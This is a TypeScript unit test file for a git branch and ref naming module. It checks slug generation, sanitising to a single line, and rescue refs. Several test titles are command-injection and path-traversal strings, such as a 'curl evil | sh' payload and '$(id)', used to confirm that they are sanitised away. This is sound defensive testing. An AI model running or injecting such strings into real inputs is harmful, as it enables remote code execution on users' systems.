import fc from 'fast-check';
import { expect, test } from 'vitest';
import { branchName, oneLine, readRescueRef, rescueRefFor, sessionBranchName, slugOf } from './naming.ts';

test.each([
  ['Parse --format and --pretty', 'sw-5-parse-format-and-pretty'],
  ['Übergröße für Ähnliches', 'sw-5-ubergro-e-fur-ahnliches'],
  ['"; curl evil | sh #', 'sw-5-curl-evil-sh'],
  ['$(id) `id`\n../..', 'sw-5-id-id'],
  ['日本語', 'sw-5'],
  ['🚂🚃', 'sw-5'],
  ['', 'sw-5'],
])('the branch of %j is %s', (title, name) => {
  expect(branchName(5, title)).toBe(name);
});

test('the branch of a session bears a number of its own kind', () => {
  expect(sessionBranchName(5, 'Why is it slow?')).toBe('sw-s5-why-is-it-slow');
  expect(sessionBranchName(5, '日本語')).toBe('sw-s5');
});

test('a slug is short and safe whatever the title', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (title) => {
      expect(slugOf(title)).toMatch(/^([a-z0-9]+(-[a-z0-9]+)*)?$/);
      expect(slugOf(title).length).toBeLessThanOrEqual(48);
    }),
  );
});

test('a long word is cut, not dropped', () => {
  expect(slugOf('x'.repeat(300))).toBe('x'.repeat(48));
});

test('one line has no control characters and ends with an ellipsis when it was cut', () => {
  expect(oneLine('a\r\n\tb\u0000c\u2028d', 20)).toBe('a b c d');
  expect(oneLine('a'.repeat(300), 10)).toBe(`${'a'.repeat(9)}…`);
});

test('a rescue ref tells what it was made for, and when', () => {
  const ref = rescueRefFor('sw-1-a/b', '2026-11-21T14:20:00.123Z');
  expect(ref).toBe('refs/switchyard/rescue/sw-1-a/b/2026-11-21T14-20-00-123Z');
  expect(readRescueRef(ref)).toEqual({ name: 'sw-1-a/b', at: '2026-11-21T14:20:00.123Z' });
  expect(readRescueRef('refs/switchyard/rescue/by-hand')).toEqual({ name: 'by-hand', at: null });
});
